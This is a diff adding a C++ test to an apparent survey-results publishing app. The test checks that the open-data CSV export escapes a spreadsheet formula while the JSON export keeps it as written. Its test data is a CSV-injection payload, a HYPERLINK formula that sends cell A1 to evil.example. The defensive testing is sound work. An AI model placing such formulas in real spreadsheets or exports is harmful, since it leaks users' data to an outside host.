@@ -149,6 +149,30 @@ TEST_F(CyclePages, ACorrectionIsANewEditionAndTheOldOneStaysAsHistory) {
   EXPECT_TRUE(contains(history, "Заменена исправленной редакцией"));
 }
 
+TEST_F(CyclePages, OpenDataCsvGivesATextThatWouldRunAsAFormulaAsTextAndJsonAsWritten) {
+  const auto path = open_cycle();
+  ASSERT_EQ(post(official, path + "/organisations", "version=" + version(path, official) + "&organisations=school")
+                .status,
+            303);
+  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Подробнее\")";
+  const auto result_path = path + "/o/school";
+  ASSERT_EQ(post(survey_operator, result_path,
+                 "field=deficiencies&version=" + version(result_path, survey_operator) + "&text=" + encode(formula))
+                .status,
+            303);
+  for (auto [who, event] : {std::pair{&survey_operator, "submit_to_council"}, {&council, "approve"},
+                            {&official, "publish"}})
+    ASSERT_EQ(step(*who, path, event).status, 303) << event;
+
+  const auto csv = get("/opendata/results.csv?year=" + std::to_string(year)).body;
+  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Подробнее\"\")\","), std::string::npos)
+      << csv;
+  EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos);
+  const auto json = boost::json::parse(get("/opendata/results.json?year=" + std::to_string(year)).body);
+  EXPECT_EQ(json.at("results").at(0).at("deficiencies").as_string(), formula);
+}
+
 TEST_F(CyclePages, EachRoleTakesOnlyItsStepsAndSeesOnlyItsScope) {
   const auto path = open_cycle();
   const auto other_official = signed_in(account("minzdrav", "official", "", "Минздрав области"));
